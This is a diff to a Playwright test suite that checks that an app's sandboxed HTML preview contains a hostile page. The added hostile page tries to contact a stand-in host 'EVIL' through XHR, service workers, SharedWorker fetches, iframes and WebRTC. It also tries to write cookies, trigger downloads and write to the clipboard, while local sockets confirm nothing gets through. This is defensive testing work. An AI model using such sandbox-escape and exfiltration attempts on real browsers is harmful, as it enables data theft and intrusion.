@@ -10,7 +10,7 @@ from playwright.sync_api import (
     expect,
 )
 
-from tests.app.driver import PacedEngine, choose, open_app, preview_text
+from tests.app.driver import PacedEngine, choose, open_app, preview_text, status
 
 # Tries to get out in every way that needs no click, says that it ran, and then leaves.
 HOSTILE = """<!doctype html><title>hostile</title>
@@ -42,6 +42,25 @@ const attempts = [
   () => { parent.parent.document.title = 'owned' },
   () => localStorage.setItem('a', 'b'),
   () => { document.cookie = 'likeness=stolen' },
+  () => { document.domain = 'EVIL' },
+  () => indexedDB.open('owned'),
+  () => navigator.serviceWorker.register('http://EVIL/service'),
+  () => new SharedWorker('data:text/javascript,fetch("http://EVIL/shared")'),
+  () => { const x = new XMLHttpRequest(); x.open('GET', 'http://EVIL/xhr'); x.send(); },
+  () => { const f = document.createElement('iframe'); f.src = 'http://EVIL/nested';
+    document.body.append(f); },
+  () => { const f = document.createElement('iframe');
+    f.srcdoc = '<script>fetch("http://EVIL/inner"); top.document.title = "owned"</' + 'script>';
+    document.body.append(f); },
+  () => { const a = document.createElement('a'); a.href = 'data:text/plain,owned';
+    a.download = 'owned.txt'; document.body.append(a); a.click(); },
+  () => { const rtc = new RTCPeerConnection({iceServers: [{urls: 'stun:EVIL'}]});
+    rtc.createDataChannel('out');
+    rtc.createOffer().then(offer => rtc.setLocalDescription(offer)); },
+  () => document.documentElement.requestFullscreen(),
+  () => navigator.clipboard.writeText('owned'),
+  () => history.pushState(null, '', '/owned'),
+  () => confirm('dialog'),
   () => alert('dialog'),
   () => top.postMessage({value: 'owned', run: 'owned'}, '*'),
 ];
@@ -68,11 +87,19 @@ def received(server: socket.socket) -> list[bytes]:
 def test_a_hostile_page_reaches_nothing(
     browser: Browser, screenshot: Path, url: str, monkeypatch: pytest.MonkeyPatch
 ):
-    with socket.create_server(("127.0.0.1", 0)) as evil, browser.new_context() as context:
+    with (
+        socket.create_server(("127.0.0.1", 0)) as evil,
+        socket.socket(type=socket.SOCK_DGRAM) as ear,
+        browser.new_context() as context,
+    ):
         evil.setblocking(False)
+        ear.setblocking(False)
+        ear.bind(evil.getsockname())
         address = "{}:{}".format(*evil.getsockname())
         monkeypatch.setattr(PacedEngine, "html", HOSTILE.replace("EVIL", address))
         page = open_app(context, url)
+        downloads: list[object] = []
+        page.on("download", lambda download: downloads.append(download))
         choose(page, screenshot, "paced")
         page.get_by_role("slider", name="Passes").press("Home")
         PacedEngine.go.release()
@@ -85,7 +112,25 @@ def test_a_hostile_page_reaches_nothing(
         expect(preview_text(page)).to_contain_text("ran")
         page.wait_for_timeout(1500)  # until it leaves
         assert b"".join(received(evil)) == b""
+        with pytest.raises(BlockingIOError):
+            ear.recv(1024)
+        assert downloads == []
         assert len(context.pages) == 1
         assert page.title() == "Likeness"
         assert page.url.startswith(url)
         assert "stolen" not in str(context.cookies())
+
+
+def test_a_page_that_never_ends_leaves_the_app_usable(
+    browser: Browser, screenshot: Path, url: str, monkeypatch: pytest.MonkeyPatch
+):
+    endless = "<p>before</p><script>while (true);</script>"
+    with browser.new_context() as context:
+        page = open_app(context, url)
+        monkeypatch.setattr(PacedEngine, "html", f"<!doctype html><title>t</title>{endless}")
+        choose(page, screenshot, "paced")
+        page.get_by_role("slider", name="Passes").press("Home")
+        PacedEngine.go.release()
+        page.get_by_role("button", name="Generate").click()
+        expect(status(page)).to_contain_text("Failed", timeout=90_000)
+        expect(status(page)).to_contain_text("never ends")
